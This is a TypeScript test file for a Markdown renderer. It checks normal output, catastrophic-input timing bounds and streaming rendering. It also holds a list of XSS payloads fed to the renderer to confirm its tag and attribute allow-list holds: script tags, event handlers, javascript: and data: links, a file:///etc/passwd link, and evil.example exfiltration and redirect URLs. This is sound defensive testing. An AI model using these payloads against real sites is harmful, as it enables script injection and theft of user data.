import assert from "node:assert/strict";
import { test } from "node:test";
import { Element } from "./page.js";
import { GrowingMarkdown, renderMarkdown } from "../src/markdown.js";

function rendered(source: string): Element {
  const root = new Element("div");
  root.append(...(renderMarkdown(source) as unknown as Element[]));
  return root;
}

function html(source: string): string {
  return rendered(source).html.slice("<div>".length, -"</div>".length);
}

const CASES: [string, string][] = [
  ["one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"],
  ["# a\n### b *c*", "<h3>a</h3><h5>b <em>c</em></h5>"],
  ["**a** _b_ ~~c~~ `d<e>`", "<p><strong>a</strong> <em>b</em> <del>c</del> <code>d&lt;e></code></p>"],
  ["a  \nb", "<p>a<br>b</p>"],
  ["- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"],
  ["3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'],
  ["- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"],
  ["- [x] a\n- [ ] b", '<ul><li><input checked="">a</li><li><input>b</li></ul>'],
  ["> a\n> > b", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>"],
  ["```js\na < b\n```", "<div><div><span>js</span></div><pre><code>a &lt; b</code></pre></div>"],
  ["```\nnever closed\n# a", "<div><div><span></span></div><pre><code>never closed\n# a</code></pre></div>"],
  ["| a | b |\n|--|-:|\n| 1 | `2` |", "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td><code>2</code></td></tr></tbody></table></div>"],
  ["---", "<hr>"],
  ["\\*a\\* &amp; &lt;b&gt; &#955; &nosuch; &#0;", "<p>*a* &amp; &lt;b> λ &amp;nosuch; \ufffd</p>"],
  ["[a](https://b.example/c) <https://d.example> e@f.example", '<p><a href="https://b.example/c">a</a> <a href="https://d.example/">https://d.example</a> <a href="mailto:e@f.example">e@f.example</a></p>'],
  ["[a](https://b.example/?c&amp;d)", '<p><a href="https://b.example/?c&d">a</a></p>'],
  ["a\r\n\r\nb", "<p>a</p><p>b</p>"],
];

for (const [source, expected] of CASES) {
  test(`Markdown: ${JSON.stringify(source)}`, () => assert.equal(html(source), expected));
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "a <img src=x onerror=alert(1)> b",
  "<svg onload=alert(1)>\n\n<iframe src='javascript:alert(1)'></iframe>",
  "<a href='javascript:alert(1)'>x</a> <style>*{display:none}</style> <base href=//evil.example>",
  "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1)) [x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:a) [x](file:///etc/passwd) [x](//evil.example) [x](blob:a)",
  "![x](https://evil.example/?q=secret) ![x](data:image/svg+xml,<svg/onload=alert(1)>) ![\"onerror=\"alert(1)](x)",
  "[x]: javascript:alert(1)\n\n[x] [a][x]",
  "[a](https://b.example \"\\\" onmouseover=alert(1)\")",
  "```html\"><script>alert(1)</script>\n<b>\n```",
  "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
  "- <form action=//evil.example><input name=a>\n- <meta http-equiv=refresh content='0;url=//evil.example'>",
  "# <math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<!-- a --> <![CDATA[ b ]]> <?php c ?> <!DOCTYPE d>",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
];
const ELEMENTS = new Set([
  "div", "p", "h3", "h4", "h5", "h6", "pre", "code", "span", "button", "svg", "path", "hr", "br", "blockquote", "ul", "ol",
  "li", "input", "table", "thead", "tbody", "tr", "th", "td", "a", "strong", "em", "del",
]);
const ATTRIBUTES = new Set([
  "class", "href", "title", "target", "rel", "start", "type", "disabled", "checked", "scope", "tabindex", "role",
  "aria-label", "aria-hidden", "viewBox", "d",
]);

/** Only what the renderer may make, whatever it was given. */
function assertHarmless(root: Element): void {
  for (const element of root.all()) {
    assert.ok(ELEMENTS.has(element.name), element.name);
    for (const [name, value] of element.attributes) {
      assert.ok(ATTRIBUTES.has(name), name);
      if (name === "href") assert.match(value, /^(https?:\/\/|mailto:)/);
      if (name === "rel") assert.equal(value, "noopener noreferrer nofollow");
      if (name === "type") assert.ok(["button", "checkbox"].includes(value));
    }
    for (const name of element.listeners) assert.equal(element.name, "button", name);
    if (element.name === "a") assert.equal(element.attributes.get("target"), "_blank");
  }
}

for (const source of HOSTILE) {
  test(`hostile: ${JSON.stringify(source)}`, () => {
    const root = rendered(source);
    assertHarmless(root);
    const words = /alert\(1\)/.test(source) && !source.includes("](") && !source.includes("]:");
    if (words) assert.ok(root.textContent.includes("alert(1)"), "it is shown as it was written");
  });
}

const HUGE: [string, string][] = [
  ["quotes in quotes", "> ".repeat(20_000) + "a"],
  ["quotes, a line each", Array.from({ length: 300 }, (_, i) => ">".repeat(i) + " a").join("\n")],
  ["lists in lists", Array.from({ length: 300 }, (_, i) => " ".repeat(2 * i) + "- a").join("\n")],
  ["stars", "*".repeat(60_000)],
  ["stars and words", "*a_b ".repeat(3_900)],
  ["open brackets", "[".repeat(19_000)],
  ["open links", "[a](".repeat(4_900)],
  ["images", "![".repeat(9_900)],
  ["ticks", Array.from({ length: 190 }, (_, i) => "`".repeat(i)).join(" ")],
  ["tags", "<a ".repeat(6_600)],
  ["comments", "<!--".repeat(20_000)],
  ["a table of many rows", "|a|b|\n|-|-|\n" + "|1|2|\n".repeat(20_000)],
  ["a table of many columns", "|a".repeat(3_000) + "|\n" + "|-".repeat(3_000) + "|\n" + ("|1".repeat(3_000) + "|\n").repeat(20)],
  ["one line", "word ".repeat(100_000)],
  ["paragraphs", "word\n\n".repeat(10_000)],
  ["addresses", "www.a.example/".repeat(1_400)],
  ["at signs", "a@".repeat(9_900)],
  ["a fence that never ends", "```\n" + "x\n".repeat(200_000)],
  ["definitions", "[a]: b\n".repeat(5_000)],
  ["entities", "&amp;".repeat(50_000)],
  ["spaces", "a" + " ".repeat(100_000) + "b"],
  ["tabs", "\t".repeat(50_000) + "a"],
  ["newlines", "\n".repeat(100_000)],
];
// Such texts took minutes, or all of the stack, without the bounds.
const SECONDS = 5 * Number(process.env.OCTAVO_TEST_TIME_SCALE ?? "1");

for (const [name, source] of HUGE) {
  test(`huge: ${name}`, () => {
    const started = performance.now();
    const root = rendered(source);
    assert.ok(performance.now() - started < SECONDS * 1000, `${performance.now() - started} ms`);
    assertHarmless(root);
    assert.ok([...root.all()].length < 60_000);
  });
}

test("a text that grows is, at its end, what it would have been at once", () => {
  for (const [source] of [...CASES, [CASES.map(([one]) => one).join("\n\n"), ""], ["a\n---\n\nb", ""], ["- a\n\n- b\n\nc", ""]] as [string, string][]) {
    const growing = new GrowingMarkdown();
    for (let end = 1; end <= source.length; end += 1) growing.update(source.slice(0, end), false);
    growing.update(source, true);
    assert.equal((growing.element as unknown as Element).html, `<div>${html(source)}</div>`);
  }
});

test("what stands before the last block is left alone while a text grows", () => {
  const growing = new GrowingMarkdown();
  const root = growing.element as unknown as Element;
  growing.update("first\n\nsecond\n\nthi", false);
  const [first, second] = root.childNodes;
  growing.update("first\n\nsecond\n\nthird **and** more", false);
  assert.equal(root.childNodes[0], first);
  assert.equal(root.childNodes[1], second);
  assert.equal(root.html, "<div><p>first</p><p>second</p><p>third <strong>and</strong> more</p></div>");
});

test("a list whose items stand apart stays one list", () => {
  const growing = new GrowingMarkdown();
  growing.update("- a\n\n", false);
  growing.update("- a\n\n- b", false);
  assert.equal((growing.element as unknown as Element).html, "<div><ul><li><p>a</p></li><li><p>b</p></li></ul></div>");
});
